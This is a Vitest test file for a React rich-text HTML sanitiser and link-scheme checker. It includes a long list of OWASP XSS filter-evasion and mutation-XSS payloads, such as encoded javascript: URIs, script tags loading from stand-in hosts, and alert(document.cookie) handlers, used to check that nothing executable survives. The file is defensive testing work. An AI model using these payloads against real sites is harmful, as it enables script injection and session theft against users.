// @vitest-environment jsdom
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { RichText, type RichTextNode } from "../../../design-system/blocks/Blurb";
import { safeRichTextHref, sanitizeRichText } from "./rich-text.server";

const p = (...children: unknown[]) => ({ type: "element", tag: "p", children });
const t = (text: string) => ({ type: "text", text });

function plainText(nodes: readonly RichTextNode[]): string {
  return nodes
    .map((node) => (node.type === "text" ? node.text : plainText(node.children)))
    .join("")
    .trim();
}

describe("sanitizeRichText", () => {
  it("keeps the allowed elements", () => {
    expect(
      sanitizeRichText(
        '<h3>Utrustning</h3><p>Med <strong>fyrhjulsdrift</strong> och <em>dragkrok</em>.<br>Se <a href="/kop-bil">alla bilar</a>.</p><ul><li>Vinterhjul</li><li>Service</li></ul>',
      ),
    ).toEqual([
      { type: "element", tag: "h3", children: [t("Utrustning")] },
      p(
        t("Med "),
        { type: "element", tag: "strong", children: [t("fyrhjulsdrift")] },
        t(" och "),
        { type: "element", tag: "em", children: [t("dragkrok")] },
        t("."),
        { type: "element", tag: "br", children: [] },
        t("Se "),
        { type: "element", tag: "a", href: "/kop-bil", children: [t("alla bilar")] },
        t("."),
      ),
      {
        type: "element",
        tag: "ul",
        children: [
          { type: "element", tag: "li", children: [t("Vinterhjul")] },
          { type: "element", tag: "li", children: [t("Service")] },
        ],
      },
    ]);
  });

  it("drops scripts, styles and event handlers with their content", () => {
    const nodes = sanitizeRichText(
      '<p onclick="alert(1)">Hej<script>alert(1)</script><style>p{}</style><img src=x onerror=alert(1)></p><iframe src="https://evil.example"></iframe><svg><script>alert(2)</script></svg>',
    );
    expect(nodes).toEqual([p(t("Hej"))]);
    expect(JSON.stringify(nodes)).not.toMatch(/alert|onclick|onerror|evil/);
  });

  it("keeps only safe link targets; unsafe links keep their text", () => {
    const html =
      '<p><a href="javascript:alert(1)">a</a> <a href=" java&#x09;script:alert(1)">b</a> <a href="//evil.example">c</a> <a href="/\\evil.example">d</a> <a href="data:text/html,x">e</a> <a href="https://bil.example/x" target="_blank" onclick="x()">f</a> <a href="mailto:info@bil.example">g</a></p>';
    const [paragraph] = sanitizeRichText(html);
    const links = JSON.stringify(paragraph).match(/"href":"[^"]*"/g);
    expect(links).toEqual(['"href":"https://bil.example/x"', '"href":"mailto:info@bil.example"']);
    expect(plainText(sanitizeRichText(html))).toBe("a b c d e f g");
  });

  it("maps b, i and h1/h5 onto the allowed tags and unwraps unknown ones", () => {
    expect(
      sanitizeRichText(
        "<h1>Rubrik</h1><div><span style='color:red'>Text <b>fet</b> <i>kursiv</i></span></div><h6>Liten</h6>",
      ),
    ).toEqual([
      { type: "element", tag: "h2", children: [t("Rubrik")] },
      p(t("Text "), { type: "element", tag: "strong", children: [t("fet")] }, t(" "), {
        type: "element",
        tag: "em",
        children: [t("kursiv")],
      }),
      { type: "element", tag: "h4", children: [t("Liten")] },
    ]);
  });

  it("wraps loose text in paragraphs and drops empty elements", () => {
    expect(sanitizeRichText("Bara text\n  på två rader<p> </p><p></p>")).toEqual([
      p(t("Bara text på två rader")),
    ]);
    expect(sanitizeRichText("")).toEqual([]);
    expect(sanitizeRichText("   ")).toEqual([]);
  });

  it("is empty when nothing is left to read (a blurb then shows no text)", () => {
    expect(sanitizeRichText("<p><br></p><ul><li> </li></ul><p><a href='/x'><br></a></p>")).toEqual(
      [],
    );
    expect(sanitizeRichText("<script>alert(1)</script><style>p{}</style>")).toEqual([]);
  });

  it("closes unclosed paragraphs and list items like a browser", () => {
    expect(sanitizeRichText("<p>Ett<p>Två<ul><li>A<li>B</ul>")).toEqual([
      p(t("Ett")),
      p(t("Två")),
      {
        type: "element",
        tag: "ul",
        children: [
          { type: "element", tag: "li", children: [t("A")] },
          { type: "element", tag: "li", children: [t("B")] },
        ],
      },
    ]);
  });

  it("never nests blocks in inline elements, and list items only live in lists", () => {
    expect(
      sanitizeRichText("<strong><p>Fet</p></strong><li>Lös</li><ul>text<p>P</p></ul>"),
    ).toEqual([
      p(t("Fet")),
      p(t("Lös")),
      {
        type: "element",
        tag: "ul",
        children: [{ type: "element", tag: "li", children: [p(t("P"))] }],
      },
    ]);
  });

  it("treats a stray < as text and drops comments and unfinished tags", () => {
    expect(
      sanitizeRichText("<p>1 < 2 <!-- hemligt --> & 3 &lt; 4</p><p>slut <a href='/x'"),
    ).toEqual([p(t("1 < 2 & 3 < 4")), p(t("slut"))]);
  });

  it("keeps text after an unclosed script out", () => {
    expect(sanitizeRichText("<p>Hej</p><script>alert(1)")).toEqual([p(t("Hej"))]);
  });

  it("decodes named and numeric character references", () => {
    expect(
      sanitizeRichText(
        "Bil&auml;gare &amp; F&ouml;rare &#8211; &#x2014; &nbsp;&okänd; &#0; &#xD800;",
      ),
    ).toEqual([p(t("Bilägare & Förare – — \u00a0&okänd; \ufffd \ufffd"))]);
  });
});

describe("sanitizeRichText across requests", () => {
  it("makes the nodes of a text once and gives every later render the same ones", () => {
    const html = '<p>Once <a href="/kop-bil">per process</a></p>';
    const first = sanitizeRichText(html);
    expect(sanitizeRichText(html)).toBe(first);
    expect(sanitizeRichText(`${html} `)).not.toBe(first);
    expect(sanitizeRichText(`${html} `)).toEqual(first);
  });
});

describe("safeRichTextHref", () => {
  it("allows site paths, anchors, http(s), mailto and tel only", () => {
    expect(safeRichTextHref("/kontakt")).toBe("/kontakt");
    expect(safeRichTextHref("#villkor")).toBe("#villkor");
    expect(safeRichTextHref("https://example.com")).toBe("https://example.com");
    expect(safeRichTextHref("tel:+46812345")).toBe("tel:+46812345");
    expect(safeRichTextHref("JavaScript:alert(1)")).toBeUndefined();
    expect(safeRichTextHref("//evil.example")).toBeUndefined();
    expect(safeRichTextHref("/\\evil.example")).toBeUndefined();
    expect(safeRichTextHref("https:\\\\evil.example")).toBeUndefined();
    expect(safeRichTextHref("java\u0000script:alert(1)")).toBeUndefined();
    expect(safeRichTextHref("\u0001 javascript:alert(1)")).toBeUndefined();
    expect(safeRichTextHref("kontakt")).toBeUndefined();
    expect(safeRichTextHref("")).toBeUndefined();
  });
});

/*
 * The OWASP XSS Filter Evasion cheat sheet (and well-known mutation-XSS payloads), each read by
 * the sanitiser and rendered by the design system's RichText as the page would.
 */
const owaspPayloads: [name: string, html: string][] = [
  ["script src", `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`],
  [
    "polyglot",
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  ],
  ["img javascript", `<IMG SRC="javascript:alert('XSS');">`],
  ["img no quotes", `<IMG SRC=javascript:alert('XSS')>`],
  ["img mixed case", `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ["img html entities", `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`],
  ["img grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"],
  ["malformed a onmouseover", `<a onmouseover="alert(document.cookie)">xxs link</a>`],
  ["a onmouseover unquoted", `<a onmouseover=alert(document.cookie)>xxs link</a>`],
  ["malformed img then script", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
  ["fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
  ["img src # onmouseover", `<IMG SRC=# onmouseover="alert('xxs')">`],
  ["img empty src onmouseover", `<IMG SRC= onmouseover="alert('xxs')">`],
  ["img onerror", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
  [
    "onerror with encoded alert",
    `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  ],
  [
    "href decimal references",
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  ],
  [
    "href decimal without semicolons",
    `<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>x</a>`,
  ],
  [
    "href hex without semicolons",
    `<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>x</a>`,
  ],
  ["href embedded tab", `<a href="jav\tascript:alert('XSS');">x</a>`],
  ["href encoded tab", `<a href="jav&#x09;ascript:alert('XSS');">x</a>`],
  ["href encoded newline", `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`],
  ["href encoded carriage return", `<a href="jav&#x0D;ascript:alert('XSS');">x</a>`],
  ["href named newline and tab", `<a href="java&NewLine;scr&Tab;ipt:alert(1)">x</a>`],
  ["href with NUL", `<a href="java\u0000script:alert('XSS')">x</a>`],
  ["img with NUL", `<IMG SRC=java\u0000script:alert("XSS")>`],
  ["spaces and meta chars before scheme", `<a href=" &#14;  javascript:alert('XSS');">x</a>`],
  ["control character reference", `<a href="&#1;javascript:alert(1)">x</a>`],
  [
    "encoded colon",
    `<a href="javascript&#x3A;alert(1)">x</a><a href=javascript&colon;alert(1)>y</a>`,
  ],
  ["partly encoded scheme", `<a href="&#x6A;avascript&#58;alert(1)">x</a>`],
  ["non-alpha after script", `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ["body onload with junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ["script slash src", `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`],
  ["extraneous open brackets", `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ["no closing script tag", `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`],
  ["protocol resolution in script", `<SCRIPT SRC=//xss.rocks/.j>`],
  ["half-open img", `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ["double open angle iframe", `<iframe src=http://xss.rocks/scriptlet.html <`],
  ["end title", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
  ["input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ["body background", `<BODY BACKGROUND="javascript:alert('XSS')">`],
  [
    "img dynsrc and lowsrc",
    `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`,
  ],
  [
    "list-style-image",
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  ],
  ["vbscript", `<IMG SRC='vbscript:msgbox("XSS")'><a href='VBScript:msgbox("XSS")'>x</a>`],
  ["svg onload", `<svg/onload=alert('XSS')>`],
  ["body onload", `<BODY ONLOAD=alert('XSS')>`],
  ["link stylesheet", `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ["style @import", `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`],
  [
    "meta link header",
    `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  ],
  [
    "style -moz-binding",
    `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  ],
  ["style broken-up import", `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`],
  ["img style expression", `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ["style type javascript", `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`],
  [
    "style class background",
    `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  ],
  ["xss style behavior", `<XSS STYLE="behavior: url(xss.htc);">`],
  ["meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  [
    "meta refresh data",
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ],
  ["iframe javascript", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ["iframe event", `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`],
  ["frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  [
    "table background",
    `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD BACKGROUND="javascript:alert('XSS')">cell</TD></TR></TABLE>`,
  ],
  ["div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`],
  [
    "div escaped background-image",
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">x</DIV>`,
  ],
  ["div expression", `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`],
  ["p style url", `<p style="background:url(javascript:alert(1))">x</p>`],
  ["downlevel-hidden comment", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ["base href", `<BASE HREF="javascript:alert('XSS');//"><a href="/x">x</a>`],
  ["object", `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`],
  [
    "embed svg data",
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ],
  [
    "xml data island",
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML>`,
  ],
  ["script attribute with >", `<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ["script attribute with >'>", `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ["script quoted junk", `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ["script grave attribute", '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  [
    "document.write split tag",
    `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>`,
  ],
  ["math xlink:href", `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`],
  ["form action", `<form action="javascript:alert(1)"><input type=submit value=x></form>`],
  ["button formaction", `<button formaction="javascript:alert(1)">x</button>`],
  ["input formaction", `<input type=submit formaction=javascript:alert(1)>`],
  ["img srcset", `<img srcset="x 1x, javascript:alert(1) 2x" src=x>`],
  ["href data html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ["href DATA uppercase", `<a href="DATA:text/html,<script>alert(1)</script>">x</a>`],
  ["cdata", `<![CDATA[<script>alert(1)</script>]]><p><![CDATA[ ]]><script>alert(2)</script></p>`],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
  ["svg style mutation", `<svg><style><img src=x onerror=alert(1)></style></svg>`],
  [
    "math table mutation",
    `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  ],
  ["template", `<template><script>alert(1)</script></template>`],
  ["textarea", `<textarea><script>alert(1)</script></textarea>`],
  ["details ontoggle", `<details open ontoggle=alert(1)>x</details>`],
  ["video source onerror", `<video><source onerror=alert(1)></video>`],
  ["mixed-case script", `<ScRiPt>alert(1)</sCrIpT>`],
  ["nested split script", `<scr<script>ipt>alert(1)</scr</script>ipt>`],
  ["https without slashes", `<a href="https:alert(1)">x</a>`],
  ["backslash hosts", `<a href="\\\\evil.example">x</a><a href="https:\\\\evil.example">y</a>`],
  [
    "target and style on a safe link",
    `<a href="/ok" style="color:red" target=_blank rel=opener>ok</a>`,
  ],
  ["attribute without quotes", `<a href=javascript:alert(1) onclick=alert(2)>x</a>`],
];

const renderedTags = new Set([
  "DIV",
  "P",
  "STRONG",
  "EM",
  "A",
  "UL",
  "OL",
  "LI",
  "BR",
  "H2",
  "H3",
  "H4",
]);
const safeHref = /^(\/(?![/\\])|#|https?:\/\/[^/\\]|mailto:|tel:)/i;

describe("hostile rich text (OWASP XSS filter evasion)", () => {
  it.each(owaspPayloads)("%s: renders nothing that runs", (_name, html) => {
    const markup = renderToStaticMarkup(createElement(RichText, { nodes: sanitizeRichText(html) }));

    expect(markup).not.toMatch(/<(script|style|iframe|object|embed|base|meta|form|link|svg|math)/i);
    expect(markup).not.toMatch(/<(img|input|button|frame|frameset|template|textarea|video)/i);
    // React escapes text, so every "<" left in the markup opens an element.
    const tags = (markup.match(/<[^>]*>/g) ?? []).join(" ");
    expect(tags).not.toMatch(/\son[a-z]*\s*=/i);
    expect(tags).not.toMatch(/\s(style|srcset|formaction|xlink:href|action|src)\s*=/i);
    expect(tags).not.toMatch(/(href|src)="\s*(javascript|vbscript|data):/i);

    // The whole tree, as a browser reads it: only allow-listed elements, a class, a safe href.
    const root = document.createElement("div");
    root.innerHTML = markup;
    for (const element of root.querySelectorAll("*")) {
      expect(renderedTags).toContain(element.tagName);
      for (const attribute of element.attributes) {
        expect(["class", "href"]).toContain(attribute.name);
        if (attribute.name === "href") expect(attribute.value).toMatch(safeHref);
      }
    }
  });

  it("keeps the readable text of hostile markup as text", () => {
    expect(sanitizeRichText(`<a href="jav&#x09;ascript:alert(1)">klicka</a>`)).toEqual([
      p(t("klicka")),
    ]);
    const escaped = renderToStaticMarkup(
      createElement(RichText, {
        nodes: sanitizeRichText("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
      }),
    );
    expect(escaped).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(escaped).not.toContain("<script");
    expect(
      sanitizeRichText(`<a href="/ok" style="color:red" target=_blank rel=opener>ok</a>`),
    ).toEqual([p({ type: "element", tag: "a", href: "/ok", children: [t("ok")] })]);
  });
});
